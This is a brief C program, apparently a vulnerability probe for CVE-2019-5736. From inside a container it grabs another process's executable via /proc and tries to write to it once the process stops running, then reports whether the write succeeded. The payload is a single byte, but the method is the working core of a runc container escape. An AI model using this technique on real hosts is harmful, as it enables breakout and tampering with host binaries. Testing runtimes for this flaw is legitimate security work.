// The attack of CVE-2019-5736, from within a container: holds on to the executable of any other
// program that shows up there, and writes to it once it no longer runs. Prints how that ended.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int Stranger(void) {
  struct stat own, other;
  stat("/proc/self/exe", &own);
  DIR* all = opendir("/proc");
  if (all == NULL) return -1;
  for (struct dirent* entry; (entry = readdir(all)) != NULL;) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    if (atoi(entry->d_name) <= 0) continue;
    const int fd = open(path, O_RDONLY);
    if (fd >= 0 && fstat(fd, &other) == 0 && other.st_size > 0 && other.st_ino != own.st_ino) {
      closedir(all);
      return fd;
    }
    if (fd >= 0) close(fd);
  }
  closedir(all);
  return -1;
}

int main(void) {
  puts("waiting");
  fflush(stdout);
  int fd = -1;
  for (const time_t give_up = time(NULL) + 30; fd < 0 && time(NULL) < give_up;) fd = Stranger();
  if (fd < 0) return puts("nobody came"), 1;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int written = -1;
  // ETXTBSY: it still runs.
  for (const time_t give_up = time(NULL) + 20; time(NULL) < give_up;) {
    written = open(path, O_WRONLY | O_APPEND);
    if (written >= 0 || errno != ETXTBSY) break;
  }
  if (written < 0) return printf("open: %s\n", strerrorname_np(errno)), 0;
  return printf("written: %zd\n", write(written, "x", 1)), 0;
}
